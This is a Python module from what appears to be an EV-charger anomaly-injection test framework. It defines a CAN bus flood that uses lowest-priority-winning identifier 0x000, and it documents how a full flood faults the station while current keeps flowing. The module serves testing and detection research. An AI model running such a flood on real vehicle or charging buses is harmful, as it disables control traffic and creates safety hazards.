"""A flood of frames that win every arbitration."""

from __future__ import annotations

from evtui.anomalies.api import Cycle, Knob, Parameters, Signature, parameter
from evtui.anomalies.can._forging import SILENCED, ForgingAnomaly
from evtui.anomalies.run import PlannedStep, Run
from evtui.canbus import Frame
from evtui.kinds import CanIdentifier, Integer, Number

__all__ = ["CanFlood", "FloodParameters"]


class FloodParameters(Parameters):
    """What one can tweak."""

    identifier: int = parameter(
        CanIdentifier(), "of its frames; 0 wins every arbitration", default=0
    )
    share_pct: float = parameter(
        Number(1, 100, "%"), "of the bus; at 100 nobody else gets through", default=100.0
    )
    data_bytes: int = parameter(Integer(0, 8), "in each frame", default=8)
    burst_s: float = parameter(Number(0.1, 600, "s"), "of one burst", default=5.0)
    gap_s: float = parameter(Number(0, 600, "s"), "between two bursts", default=3.0)
    cycles: int = parameter(Integer(0, 100_000), "bursts, 0 for endless", default=0)


class CanFlood(ForgingAnomaly[FloodParameters]):
    """Denial of service by the lowest identifier (ROAD: fabrication).

    The flood of the HCRL Car-Hacking data set is identifier 0x000 every 0.3 ms in bursts of 3 to
    5 s, 300 of them in 30 to 40 minutes.  On a bus of 500 kbit/s 8 bytes of zeros take 127 bits, so
    that is 85 %, and what is left of it is enough for every frame of a quiet bus, a millisecond
    late at most: only all of the bus, the default here, silences the others.
    """

    name = "can-flood"
    title = "Flood of the CAN bus"
    about = (
        "Frames with an identifier that wins every arbitration take the bus for seconds. At 90 % "
        "the module's frames still get through; at 100 % none does: after a second the station "
        "takes its module for lost, ends the transaction and is Faulted, while its order to stop "
        "cannot get through, so the current flows on until the burst ends."
    )
    signature = Signature(
        ocpp="StatusNotification Faulted, InternalError, and StopTransaction, reason Other",
        can="bus load at the share, an identifier of no message; at 100 % no Current meanwhile",
        current="flows on through the burst although the transaction has ended, then falls",
    )
    techniques = ("T0814", "T0806")
    severity = 4
    stakes = ("availability", "safety")
    references = (
        "HCRL Car-Hacking data set: 0x000 every 0.3 ms, bursts of 3 to 5 s",
        "Verma et al. 2024, ROAD, PLoS ONE 0296879: fabrication attack",
    )
    claims = frozenset({"station bus"})
    undone = SILENCED
    Parameters = FloodParameters
    pace = ("burst_s", "gap_s")
    strength = Knob("share_pct", 10.0)

    @classmethod
    def cycle_of(cls, parameters: FloodParameters) -> Cycle:
        return Cycle(1, parameters.burst_s + parameters.gap_s)

    async def act(self, run: Run[FloodParameters]) -> None:
        def plan() -> tuple[PlannedStep, ...]:
            told = run.parameters
            label = f"flood {told.identifier:#05x} at {told.share_pct:g} % for {told.burst_s:g} s"
            return (PlannedStep(label, told.burst_s + told.gap_s, lambda: burst(run)),)

        await run.repeat(plan)


async def burst(run: Run[FloodParameters]) -> None:
    """One burst, as long and as dense as the parameters are by now."""

    def frame() -> Frame:
        return Frame(run.parameters.identifier, bytes(run.parameters.data_bytes))

    await run.bus.flow(
        frame,
        lambda: run.bus.rate(frame(), run.parameters.share_pct / 100),
        lambda: run.parameters.burst_s,
    )
